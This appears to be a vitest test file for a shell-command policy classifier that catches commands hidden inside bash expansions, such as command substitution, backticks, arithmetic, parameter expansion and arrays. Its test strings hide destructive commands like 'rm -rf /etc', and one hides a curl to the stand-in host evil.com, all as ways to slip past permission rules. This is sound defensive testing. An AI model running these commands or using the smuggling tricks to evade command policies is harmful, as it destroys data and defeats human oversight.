// Every context in which bash expands a word, and so may run a command: the
// command inside is read and classified (E32: its classes join the facets, the
// outer simple command stays unparseable, E24), or the command is unparseable
// (G14b). Arithmetic is read only as plain numbers: bash evaluates a
// variable's value as arithmetic again, subscripts and their `$(…)` included,
// so anything more makes the command unparseable (E26 keeps `$((1+2))` fine).

import { describe, expect, it } from 'vitest';
import { decideDocs } from './decide-docs.js';
import type { Unit } from './classify-support.js';
import { decideWith, units } from './classify-support.js';

/** Deleting under /etc is denied; everything else a shell does is allowed. */
const NO_ETC = [
  { id: 'no-etc', action: 'fileDelete', decision: 'deny', when: { paths: ['/etc/**'] } },
  { id: 'delete-ok', action: 'fileDelete', decision: 'allow' },
  { id: 'push-ok', action: 'gitPush', decision: 'allow' },
  { id: 'egress-ok', action: 'networkEgress', decision: 'allow' },
  { id: 'shell-ok', action: 'processSpawn', decision: 'allow' },
];

/** Only a hard deny on the command `rm`; every class is allowed. */
const NO_RM = [
  { id: 'no-rm', command: 'rm', decision: 'deny', enforcement: 'hard' },
  { id: 'delete-ok', action: 'fileDelete', decision: 'allow' },
  { id: 'push-ok', action: 'gitPush', decision: 'allow' },
  { id: 'egress-ok', action: 'networkEgress', decision: 'allow' },
  { id: 'shell-ok', action: 'processSpawn', decision: 'allow' },
];

/** The command's own facet is unparseable (not an inner unit). */
function outerRaw(command: string): Unit | undefined {
  return units(command).find((u) => u.kind === 'raw' && !u.inner);
}

function deletesEtc(command: string): boolean {
  return units(command).some((u) =>
    u.effects.some((e) => e.cls === 'fileDelete' && (e.args.paths ?? []).includes('/etc')),
  );
}

/**
 * The promise for a command that hides `rm -rf /etc` in an expansion: the rm
 * is read and classified (so the class rule denies), the command itself is
 * unparseable, and a rule on the command `rm` alone never lets it pass.
 */
function expectHiddenRmRead(command: string): void {
  expect(outerRaw(command), `${command}: unparseable`).toBeDefined();
  expect(deletesEtc(command), `${command}: the rm is classified`).toBe(true);
  expect(decideWith(NO_ETC, command).decision, command).toBe('deny');
  expect(decideWith(NO_RM, command).decision, command).not.toBe('allow');
}

/** Unparseable, and never allowed, even with every class allowed. */
function expectUnparseable(command: string, reason?: RegExp): void {
  const raw = outerRaw(command);
  expect(raw, `${command}: unparseable`).toBeDefined();
  if (reason !== undefined && raw?.kind === 'raw') expect(raw.reason).toMatch(reason);
  const result = decideWith(NO_ETC, command);
  expect(result.decision, command).toBe('prompt');
  expect(result.rule, command).toBe('unparseable');
}

/** Read with confidence: one ordinary command facet, allowed under NO_ETC. */
function expectPlain(command: string): void {
  expect(
    units(command).map((u) => u.kind),
    command,
  ).not.toContain('raw');
  expect(decideWith(NO_ETC, command).decision, command).toBe('allow');
}

describe('command substitution `$(…)` (E32)', () => {
  it.each([
    'echo $(rm -rf /etc)',
    'echo "$(rm -rf /etc)"',
    'echo a$(rm -rf /etc)b',
    'echo $(echo $(echo $(rm -rf /etc)))',
    'echo "$(echo "$(rm -rf /etc)")"',
    '$(rm -rf /etc)',
    'echo $( (rm -rf /etc) )',
    'echo $(case x in x) rm -rf /etc;; esac)',
  ])('`%s` reads the rm', expectHiddenRmRead);
});

describe('backticks, nested and escaped (E32)', () => {
  it.each([
    'echo `rm -rf /etc`',
    'echo "`rm -rf /etc`"',
    'echo `echo \\`rm -rf /etc\\``',
    'echo "`echo \\"x\\"; rm -rf /etc`"',
    'echo x`rm -rf /etc`y',
    'echo $(echo `rm -rf /etc`)',
  ])('`%s` reads the rm', expectHiddenRmRead);

  it('the issue’s `echo $[ `git push origin main` ]` is unparseable with gitPush read', () => {
    const command = 'echo $[ `git push origin main` ]';
    expect(outerRaw(command)).toBeDefined();
    expect(units(command).some((u) => u.effects.some((e) => e.cls === 'gitPush'))).toBe(true);
    const result = decideDocs(
      {
        version: 1,
        workspace: 'acme',
        rules: [
          { id: 'protect-main', action: 'gitPush', decision: 'deny', when: { refs: ['main'] } },
          { id: 'shell-ok', action: 'processSpawn', decision: 'allow' },
        ],
      },
      { workspace: 'acme', agent: 'a', command },
    );
    expect(result.decision).toBe('deny');
    expect(result.rule).toBe('protect-main');
  });
});

describe('arithmetic `$((…))` (E26: only plain numbers are fine)', () => {
  it.each([
    'echo $(( $(rm -rf /etc) ))',
    'echo $(( `rm -rf /etc` ))',
    'echo $(( a[$(rm -rf /etc)] ))',
    'echo $(( 1 + $(rm -rf /etc) ))',
    'echo "$(( $(rm -rf /etc) ))"',
    'echo $(( "$(rm -rf /etc)" ))',
    'echo $(( ${a:-$(rm -rf /etc)} ))',
  ])('`%s` reads the rm', expectHiddenRmRead);

  it.each(['echo $((x))', 'echo $((x + 1))', 'echo $((a[1]))', 'echo $(( $x ))', 'echo $((1+$1))'])(
    '`%s` names a variable, whose value bash evaluates again: unparseable',
    (command) => expectUnparseable(command, /arithmetic/),
  );

  it("the issue's `a='b[$(rm -rf /)]'; echo $((a))`: the echo is unparseable", () => {
    expect(outerRaw('echo $((a))')).toBeDefined();
    expect(decideWith(NO_ETC, "a='b[$(rm -rf /)]'; echo $((a))").decision).not.toBe('allow');
  });

  it.each([
    'echo $((1+2))',
    'echo $(( (1 + 2) * 3 ))',
    'echo $((0x1f + 2#101 - 8#17))',
    'echo $(( $# + 1 ))',
    'echo $(( ${#a} * 2 ))',
    'echo "$((1 << 4))"',
  ])('`%s` is plain arithmetic, read with confidence', expectPlain);

  it('`$((` that does not close as arithmetic is read as `$( (…) …)`, as bash does', () => {
    expectHiddenRmRead('echo $((echo a); (rm -rf /etc))');
  });
});

describe('legacy arithmetic `$[…]`', () => {
  it.each([
    'echo $[ $(rm -rf /etc) ]',
    'echo $[ `rm -rf /etc` ]',
    'echo $[ a[$(rm -rf /etc)] ]',
    'echo "$[ $(rm -rf /etc) + 1 ]"',
  ])('`%s` reads the rm', expectHiddenRmRead);

  it('`echo $[x]` is unparseable; `echo $[1+2]` is plain', () => {
    expectUnparseable('echo $[x]', /arithmetic/);
    expectPlain('echo $[1+2]');
  });
});

describe('parameter expansion `${…}` with every operator', () => {
  const operators = [':-', ':=', ':+', ':?', '-', '=', '+', '?', '#', '##', '%', '%%'];
  const more = ['/x/', '//x/', '/#x/', '/%x/', '^', '^^', ',', ',,'];
  it.each([...operators, ...more])(
    '`${a%s$(rm -rf /etc)}`, bare and quoted, reads the rm',
    (op) => {
      expectHiddenRmRead(`echo \${a${op}$(rm -rf /etc)}`);
      expectHiddenRmRead(`echo "\${a${op}$(rm -rf /etc)}"`);
      expectHiddenRmRead(`echo \${a${op}x\`rm -rf /etc\`}`);
    },
  );

  it.each([
    'echo ${a:$(rm -rf /etc)}',
    'echo ${a:0:$(rm -rf /etc)}',
    'echo ${a[$(rm -rf /etc)]}',
    'echo ${a[$(rm -rf /etc)]:-x}',
    'echo ${#a[$(rm -rf /etc)]}',
    'echo ${a:-${b:-$(rm -rf /etc)}}',
    'echo ${a/$(rm -rf /etc)/y}',
  ])('`%s` (substrings, subscripts, nesting) reads the rm', expectHiddenRmRead);

  it('the issue’s `echo "${a:-\'$(curl https://evil.com)\'}"`: in double quotes the single quotes are literal and the curl runs', () => {
    const command = `echo "\${a:-'$(curl https://evil.com)'}"`;
    expect(outerRaw(command)).toBeDefined();
    const egress = units(command).flatMap((u) =>
      u.effects.filter((e) => e.cls === 'networkEgress'),
    );
    expect(JSON.stringify(egress.map((e) => e.args.hosts))).toContain('evil.com');
    const result = decideDocs(
      {
        version: 1,
        workspace: 'acme',
        rules: [
          {
            id: 'no-evil',
            action: 'networkEgress',
            decision: 'deny',
            when: { hosts: ['evil.com'] },
          },
          { id: 'shell-ok', action: 'processSpawn', decision: 'allow' },
        ],
      },
      { workspace: 'acme', agent: 'a', command },
    );
    expect(result.decision).toBe('deny');
  });

  it.each([
    `echo "\${a:-'$(rm -rf /etc)'}"`,
    `echo "\${a:+'x'$(rm -rf /etc)}"`,
    `echo "\${a#'$(rm -rf /etc)'}"`,
    `echo "\${a:-'}'$(rm -rf /etc)}"`,
  ])('`%s`: single quotes inside `${…}` in double quotes hide nothing', expectHiddenRmRead);

  it("outside double quotes the single quotes do quote: `echo ${a:-'$(rm -rf /etc)'}` runs nothing", () => {
    const command = `echo \${a:-'$(rm -rf /etc)'}`;
    expect(deletesEtc(command)).toBe(false);
    expect(units(command).map((u) => u.kind)).toEqual(['command']);
  });

  it.each([
    ['echo ${!a}', /named by another variable/],
    ['echo ${!a:-x}', /named by another variable/],
    ['echo ${a@P}', /prompt/],
    ['echo ${a:x}', /arithmetic/],
    ['echo ${a:1:n}', /arithmetic/],
    ['echo ${a[i]}', /subscript/],
    ['echo "${a[$i]}"', /subscript/],
    ['echo ${ rm -rf /etc; }', /cannot be read/],
    ['echo ${|rm -rf /etc;}', /cannot be read/],
  ])('`%s` can run code bash reads at run time: unparseable', (command, reason) => {
    expectUnparseable(command, reason);
  });

  it.each([
    'echo ${a}',
    'echo ${a:-x} ${a:=y} ${a:+z} ${a#p} ${a%%s} ${a/x/y} ${a^^} ${a,}',
    'echo ${#a} ${#a[@]} ${a[@]} ${a[1]} ${a:1} ${a:1:2} ${a: -1}',
    'echo ${a@Q} ${a@U} ${a@a}',
    'echo "${a:-$b}"',
  ])('`%s` runs nothing and is read with confidence', expectPlain);
});

describe('`$\'…\'` and `$"…"`', () => {
  it("`$'…'` expands nothing: `echo $'$(rm -rf /etc)'` is only an echo", () => {
    expect(deletesEtc("echo $'$(rm -rf /etc)'")).toBe(false);
    expectPlain("echo $'$(rm -rf /etc)'");
  });

  it('`$"…"` expands like double quotes, and may be replaced by a translation', () => {
    expectHiddenRmRead('echo $"$(rm -rf /etc)"');
    expectUnparseable('echo $"hello"', /translation/);
    // Its words still classify what it most likely runs (E24, E42).
    expect(decideWith(NO_RM, '$"rm" -rf /etc').decision).toBe('deny');
  });
});

describe('process substitution `<(…)` `>(…)` (E32)', () => {
  it.each([
    'cat <(rm -rf /etc)',
    'echo x > >(rm -rf /etc)',
    'diff <(ls) <(rm -rf /etc)',
    'tee >(rm -rf /etc) < /dev/null',
    'while false; do :; done < <(rm -rf /etc)',
    'cat <(echo <(rm -rf /etc))',
  ])('`%s` reads the rm', expectHiddenRmRead);
});

describe('here-documents and here-strings', () => {
  it.each([
    'cat <<EOF\n$(rm -rf /etc)\nEOF',
    'cat <<-EOF\n\t`rm -rf /etc`\nEOF',
    "cat <<'EOF'\n$(rm -rf /etc)\nEOF",
  ])('`%s` is unparseable (E24: not even the separators are read)', (command) => {
    expectUnparseable(command);
    expect(decideWith(NO_RM, command).decision).not.toBe('allow');
  });

  it.each(['cat <<< $(rm -rf /etc)', 'cat <<< "$(rm -rf /etc)"', 'cat <<<x`rm -rf /etc`'])(
    '`%s` reads the rm',
    expectHiddenRmRead,
  );
});

describe('`[[ … ]]` and `(( … ))`', () => {
  it.each([
    '[[ -v a[$(rm -rf /etc)] ]]',
    '[[ $(rm -rf /etc) == x ]]',
    '[[ x == "$(rm -rf /etc)" ]]',
    '[[ 1 -eq $(( $(rm -rf /etc) )) ]]',
    '(( $(rm -rf /etc) ))',
    '(( a[$(rm -rf /etc)] ))',
    '(( x = `rm -rf /etc` ))',
    'for ((i = 0; i < $(rm -rf /etc); i++)); do :; done',
    'for ((;;)) { $(rm -rf /etc); }',
  ])('`%s` reads the rm', expectHiddenRmRead);

  it.each([
    ['[[ $x -eq 1 ]]', /arithmetic/],
    ['[[ x -lt 2 ]]', /arithmetic/],
    ['[[ 1 -ge "$n" ]]', /arithmetic/],
    ['[[ -v a[i] ]]', /subscript/],
    ['[[ -v $name ]]', /subscript/],
    ['(( x ))', /arithmetic/],
    ['(( 1 + 2 ))', /arithmetic command/],
  ])('`%s` evaluates what a variable holds: unparseable', (command, reason) => {
    expectUnparseable(command, reason);
  });

  it.each(['[[ 1 -eq 1 ]]', '[[ $# -gt 0 ]]', '[[ $? -ne 0 ]]', '[[ -v a ]]', '[[ -v a[1] ]]'])(
    '`%s` compares plain numbers: read with confidence',
    expectPlain,
  );

  it('an arithmetic command makes only its own simple command unparseable (E24)', () => {
    const command = '(( i++ )); rm -rf /etc';
    expect(units(command).find((u) => u.kind === 'command')?.name).toBe('rm -rf /etc');
    expect(decideWith(NO_RM, command).decision).toBe('deny');
  });

  it('`((…) …)` that is not arithmetic is read as nested subshells, as bash does', () => {
    const command = '((cd x); rm -rf /etc)';
    expect(units(command).map((u) => u.kind)).toEqual(['command', 'command']);
    expect(decideWith(NO_RM, command).decision).toBe('deny');
  });
});

describe('words that control structures expand (E26)', () => {
  it.each([
    'case $(rm -rf /etc) in x) ;; esac',
    'case x in $(rm -rf /etc)) ;; esac',
    'case x in y|"$(rm -rf /etc)") ;; esac',
    'case x in (`rm -rf /etc`) echo;; esac',
    'for f in $(rm -rf /etc); do :; done',
    'for f in a "$(rm -rf /etc)" b; do echo "$f"; done',
    'for f in ${a:-$(rm -rf /etc)}; do :; done',
    'select f in $(rm -rf /etc); do :; done',
  ])('`%s` is unparseable, with the rm read where it parses', (command) => {
    expect(outerRaw(command)).toBeDefined();
    expect(decideWith(NO_ETC, command).decision).not.toBe('allow');
    expect(decideWith(NO_RM, command).decision).not.toBe('allow');
  });

  it('a `for` or `case` word holding a substitution is its own unparseable unit, the body still counts', () => {
    const command = 'for f in $(rm -rf /etc); do git push origin main; done';
    const kinds = units(command).map((u) => `${u.kind}${'inner' in u && u.inner ? ':inner' : ''}`);
    expect(kinds).toContain('raw');
    expect(kinds).toContain('command:inner');
    expect(
      units(command).some((u) => u.kind === 'command' && u.name === 'git push origin main'),
    ).toBe(true);
    expect(deletesEtc(command)).toBe(true);
  });
});

describe('redirection targets', () => {
  it.each([
    'echo x > $(rm -rf /etc)',
    'echo x 2>"$(rm -rf /etc)"',
    'echo x >> `rm -rf /etc`',
    'cat < ${a:-$(rm -rf /etc)}',
    '{ echo; } > $(rm -rf /etc)',
    '( echo ) < "$(rm -rf /etc)"',
    'if true; then :; fi > $(rm -rf /etc)',
    'while false; do :; done 2> $(rm -rf /etc)',
    'f() { :; } > $(rm -rf /etc)',
  ])('`%s` reads the rm', expectHiddenRmRead);
});

describe('a descriptor stored in a variable: `{name}>file`', () => {
  it('`{a[i]}>file` evaluates the subscript: unparseable; `{fd}>file` is plain', () => {
    expectUnparseable('echo x {a[i]}>/srv/w/f', /subscript/);
    expectHiddenRmRead('echo x {a[$(rm -rf /etc)]}>/srv/w/f');
    expect(outerRaw('echo x {fd}>/srv/w/f')).toBeUndefined();
  });
});

describe('assignments, arrays and declarations', () => {
  it.each([
    'a=$(rm -rf /etc)',
    'a="$(rm -rf /etc)" ls',
    'a=( $(rm -rf /etc) )',
    'a+=( x "$(rm -rf /etc)" )',
    'a=( x [1]=$(rm -rf /etc) )',
    'a[$(rm -rf /etc)]=1',
    'a=(\n  x\n  $(rm -rf /etc)\n)',
    'declare a=$(rm -rf /etc)',
    'local a="$(rm -rf /etc)"',
    'export a=`rm -rf /etc`',
    'readonly a=( $(rm -rf /etc) )',
    'typeset -a a=( $(rm -rf /etc) )',
    'declare -A m=( [k]="$(rm -rf /etc)" )',
  ])('`%s` reads the rm', expectHiddenRmRead);

  it.each([
    ['a[i]=1', /subscript/],
    ['a[$n]=1 ls', /subscript/],
    ['a=( [i]=1 )', /subscript/],
  ])('`%s`: an array subscript is evaluated, unparseable', (command, reason) => {
    expectUnparseable(command, reason);
  });

  // bash reads a subscript up to its `]`, blanks included, and expands it twice: quotes hide nothing.
  it.each([
    "a['$(eval 'rm -rf /etc')']=1",
    'a[x; rm -rf /etc; ]=1',
    "declare -a d=( ['$(rm -rf /etc)' y]=1 )",
    "b=1 a[' $(rm -rf /etc) ']=1 ls",
  ])('`%s`: a subscript with blanks is one word, and unparseable', (command) => {
    expectUnparseable(command, /subscript/);
    expect(decideWith(NO_RM, command).decision).not.toBe('allow');
  });

  it.each(['a=1', 'a[1]=x', 'a=(x y z)', 'a=( [0]=x [1]=y )', 'a+=(z) ls'])(
    '`%s` is read with confidence',
    expectPlain,
  );
});

describe('brace and tilde expansion, indirection', () => {
  it.each(['echo {a,$(rm -rf /etc)}', 'echo ~$(rm -rf /etc)', 'echo {1..$(rm -rf /etc)}'])(
    '`%s` reads the rm',
    expectHiddenRmRead,
  );

  it('`rm -rf /{etc,tmp}` is not a pass (a brace expansion is not expanded, E26)', () => {
    expect(decideWith(NO_ETC, 'rm -rf /{etc,tmp}').decision).not.toBe('allow');
    expect(decideWith(NO_RM, 'rm -rf /{etc,tmp}').decision).toBe('deny');
  });

  it('`${!a}` and `${!a[@]}`-style indirection are unparseable', () => {
    expectUnparseable('echo ${!a}', /named by another variable/);
    expectUnparseable('echo "${!prefix@}"', /named by another variable/);
  });
});

describe('the reason an expansion makes a command unparseable is a plain sentence', () => {
  it.each([
    'echo $(x)',
    'echo $((x))',
    'echo ${!a}',
    'echo ${a@P}',
    'echo ${a[i]}',
    'cat <(x)',
    '(( x ))',
  ])('`%s`', (command) => {
    const raw = outerRaw(command);
    expect(raw?.kind).toBe('raw');
    if (raw?.kind !== 'raw') return;
    expect(raw.reason).toMatch(/^[a-z`][^\n]*[a-z`)]$/);
    expect(raw.reason).not.toMatch(/\b[GE]\d+\b/);
  });
});
